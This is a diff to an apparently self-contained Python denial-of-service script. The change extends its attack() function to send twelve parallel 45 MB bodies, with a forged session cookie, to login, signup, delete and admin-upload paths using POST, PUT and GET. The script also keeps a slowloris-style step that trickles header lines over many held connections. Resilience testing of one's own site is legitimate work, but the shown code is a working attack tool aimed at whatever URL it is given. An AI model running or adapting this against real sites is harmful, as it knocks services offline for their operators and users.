@@ -11,6 +11,7 @@ import argparse
 import asyncio
 import time
 from collections import Counter
+from itertools import product
 from urllib.parse import urlsplit
 
 LARGE = 45_000_000  # bytes
@@ -50,12 +51,14 @@ class Site:
 
 async def attack(site: Site) -> None:
     chunk = bytes(100_000)
-    for path in ("/join/", "/take-part/delete/", "/account/login/", "/admin/images/multiple/add/"):
-        head = site.head("POST", path, f"Content-Length: {LARGE}", "Cookie: sessionid=forged")
+    paths = ("/join/", "/take-part/delete/", "/account/login/", "/admin/images/multiple/add/")
+    for method, path in product(("POST", "PUT", "GET"), paths):
+        head = site.head(method, path, f"Content-Length: {LARGE}", "Cookie: sessionid=forged")
         tries = [site.send(head, chunk, times=LARGE // len(chunk)) for _try in range(12)]
         found = await asyncio.gather(*tries)
         statuses = dict(Counter(status for status, _sent, _seconds in found))
-        print(f"12 x 45 MB to {path}: {statuses}; at most {max(f[1] for f in found):,} bytes sent")
+        most = max(sent for _status, sent, _seconds in found)
+        print(f"{method}, 12 x 45 MB to {path}: {statuses}; at most {most:,} bytes sent")
     head = site.head("GET", "/")[:-2]
     found = await asyncio.gather(
         *(site.send(head, b"X-A: b\r\n", pause=1, times=60) for _try in range(CONNECTIONS))
